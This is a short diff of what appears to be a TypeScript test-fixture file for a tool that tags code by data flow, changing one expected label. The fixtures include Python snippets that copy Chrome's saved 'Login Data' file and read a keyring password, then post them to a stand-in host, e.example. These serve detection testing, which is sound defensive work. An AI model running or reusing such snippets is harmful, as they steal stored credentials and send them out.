@@ -47,7 +47,7 @@ const sent: readonly Example[] = [
   ],
   [
     'import shutil, sqlite3, os, requests\nsrc = os.path.expandvars("$HOME/.config/google-chrome/Default/Login Data")\nshutil.copy2(src, "/tmp/d")\nrequests.post("https://e.example/c", files={"f": open("/tmp/d", "rb")})',
-    'secret-read ~/.config/google-chrome/Default/Login Data → network-send https://e.example/c',
+    'secret-read $HOME/.config/google-chrome/Default/Login Data → network-send https://e.example/c',
   ],
   [
     'import keyring, requests\nrequests.post("https://e.example/c", data=keyring.get_password("a", "b"))',
